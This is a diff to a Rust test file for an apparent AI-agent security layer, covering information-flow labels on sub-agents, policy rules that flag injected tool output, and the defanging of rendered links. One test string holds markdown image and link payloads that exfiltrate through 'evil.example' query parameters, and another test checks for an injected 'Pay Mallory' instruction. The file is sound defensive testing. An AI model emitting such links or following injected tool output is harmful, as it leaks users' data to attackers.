@@ -76,7 +76,8 @@ fn that_a_slot_cannot_be_filled_is_hidden() {
     let run = |fills_nothing: bool| {
         let mut run = lowest("");
         run.fills_nothing = fills_nothing;
-        run.turn("Send it to Bob.", &["read {}", fill, "list {}", "Done."]);
+        let turn = run.turn("Send it to Bob.", &["read {}", fill, "list {}", "Done."]);
+        assert_eq!(turn.spent.refused, usize::from(fills_nothing));
         run
     };
     let (filled, failed) = (run(false), run(true));
@@ -271,6 +272,15 @@ fn sub_agents_keep_labels() {
     child.conversation.task("Mail Bob.".into(), &untrusted).unwrap();
     child.go(&[SEND, "Done."]);
     assert_eq!(child.calls(), [r#"asks send {"to":"bob","body":"hello"}"#]);
+    // That it could have written to a store counts, whether it does or not.
+    let stores = |carries: &Value| {
+        let mut child = lowest("store notes: written by list, read by list\n");
+        child.conversation.task("Do nothing.".into(), carries).unwrap();
+        child.go(&["Done."]);
+        child.conversation.remember()["stores"].to_string()
+    };
+    assert!(stores(&untrusted).contains("top"), "{}", stores(&untrusted));
+    assert!(!stores(&json!({"integrity": "trusted", "secrecy": "public"})).contains("top"));
 }
 
 /// A rendered link or image exfiltrates without a tool call.
@@ -297,7 +307,7 @@ raise "no passwords" if:
     let hostile =
         "![x](https://evil.example/?q=pay), [y](https://good.example/1) <img src='//evil.example/'>";
     let expected =
-        "![x] (hxxps: / /evil .example/?q=pay), [y]( https://good.example/1 ) ‹img src='/ /evil .example/'>";
+        "![x] (hxxps: / /evil .example/?q=pay), [y]( https://good.example/1 ) ‹img src ='/ /evil .example/'>";
     check(&["read {}", LOOK, hostile], expected, 2);
     check(&["read {}", LOOK, "![x](/\\evil.example/?q=pay)"], "![x] (/ \\evil .example/?q=pay)", 1);
     check(&["It is hunter2."], "", 0);
@@ -410,7 +420,8 @@ label row.text as untrusted, public if:
 /// A rule that objects to an answer keeps it from the model, and is told with the turn.
 #[test]
 fn a_rule_stops_an_answer() {
-    let rule = "raise \"an injection\" if:\n    (out: ToolOutput)\n    \"Mallory\" in out.content\n";
+    let rule = "raise \"an injection\" if:\n    (out: ToolOutput)\n    \"Mallory\" in out.content\n\
+                log \"an answer\" if:\n    (out: ToolOutput)\n";
     let mut run = lowest(rule);
     let turn = run.turn("Read.", &["read {}", LOOK, "Done."]);
     assert!(!run.log.iter().any(|line| line.contains("Pay Mallory")), "{:?}", run.log);
